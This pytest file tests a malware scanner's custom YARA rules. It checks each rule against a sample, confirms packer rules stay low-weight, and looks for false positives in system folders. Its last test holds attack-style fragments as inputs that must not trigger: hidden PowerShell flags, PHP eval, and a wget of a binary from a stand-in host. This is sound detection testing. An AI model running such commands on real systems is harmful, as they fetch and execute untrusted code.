"""Our own rules: each finds what it is meant for, and nothing in ordinary files."""

import re
from pathlib import Path

import pytest

from fyke.files.base import NOTE_BITS, Content
from fyke.files.signatures.own_rules import FOLDER, OwnRules
from tests.files.builders import rules

SAMPLES = rules.samples()
DECLARED = [name for path in FOLDER.glob("*.yar") for name in re.findall(r"(?m)^rule (\w+)", path.read_text())]
ORDINARY = ("/usr/bin", "/usr/share/doc", "/usr/lib")
FILES = 150  # of each folder; all were tried once


@pytest.fixture(scope="module")
def scanner():
    """The rules, compiled once."""
    scanner = OwnRules()
    scanner.warm()
    return scanner


def found(scanner, data, kind="text"):
    """Names of the rules that match, with their bits."""
    findings = scanner.look(Content(data, kind=kind))
    return {finding.detail.partition(":")[0]: finding.symbol.bits * finding.weight for finding in findings}


def test_every_rule_has_a_sample():
    """No rule is shipped that was never seen at work."""
    assert sorted(DECLARED) == sorted(SAMPLES)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_a_rule_finds_what_it_is_meant_for(scanner, name):
    """And no other rule of weight speaks too loud of the same."""
    assert name in found(scanner, SAMPLES[name])


def test_packers_are_notes(scanner):
    """Wanted programs are packed too."""
    assert found(scanner, SAMPLES["Packer_Upx"])["Packer_Upx"] <= NOTE_BITS
    assert found(scanner, SAMPLES["Packer_Protector"])["Packer_Protector"] <= NOTE_BITS


@pytest.mark.parametrize("folder", ORDINARY)
def test_nothing_above_a_note_in_ordinary_files(scanner, folder):
    """Programs, documentation and libraries of a system."""
    tried = 0
    for path in sorted(Path(folder).rglob("*"))[::7]:
        if tried < FILES and path.is_file() and path.stat().st_size < 1 << 20:
            tried += 1
            try:
                told = found(scanner, path.read_bytes())
            except OSError:
                continue
            assert all(bits <= NOTE_BITS for bits in told.values()), (path, told)


def test_a_part_of_a_combination_is_nothing(scanner):
    """Words of administrators, of programmers, of writers about malware."""
    texts = (
        b"powershell -nop -w hidden",
        b"<?php mail($to, $text);",
        b"<?php eval($code);",
        b"wget http://x.test/a.x86",
    )
    assert not any(found(scanner, text) for text in texts)
